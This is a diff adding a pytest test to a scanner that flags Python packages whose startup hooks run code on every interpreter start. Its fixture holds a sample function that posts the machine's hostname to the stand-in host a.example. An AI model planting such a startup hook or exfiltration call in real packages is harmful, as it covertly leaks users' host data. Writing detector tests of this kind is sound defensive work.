@@ -295,6 +295,36 @@ def test_start_up_lines_are_read_in_both_ways(behaviour: BehaviourScanner, tmp_p
         assert "sends-secrets" in {each.rule for each in found}
 
 
+@pytest.mark.parametrize(
+    ("start", "folder", "rules"),
+    [
+        ("sample.later:main\n", "", {"acts-at-every-start", "sends-host-facts"}),
+        ("# what\n sample.later : Tool.run # then\n", "", {"acts-at-every-start"}),
+        (
+            "sample.later:main\n",
+            "sample-1.0.data/purelib/",
+            {"acts-at-every-start", "sends-host-facts"},
+        ),
+        ("sample.later:nothing\nother:main\nno line\n", "", set()),
+        ("# sample.later:main\n", "", set()),
+    ],
+)
+def test_functions_that_python_calls_at_each_start_run_by_themselves(
+    behaviour: BehaviourScanner, tmp_path: Path, start: str, folder: str, rules: set[str]
+) -> None:
+    code = (
+        "import requests, socket\n"
+        "def main():\n    requests.post('https://a.example', data=socket.gethostname())\n"
+        "class Tool:\n    def run():\n        requests.get('https://a.example')\n"
+        "def nothing():\n    return 1\n"
+    )
+    files = {f"{folder}sample.start": start, "sample/__init__.py": "", "sample/later.py": code}
+
+    found = scan(behaviour, tmp_path, files)
+
+    assert {each.rule for each in found if not each.waits} == rules
+
+
 def test_a_file_that_only_brings_two_modules_together_is_looked_at(
     behaviour: BehaviourScanner, tmp_path: Path
 ) -> None:
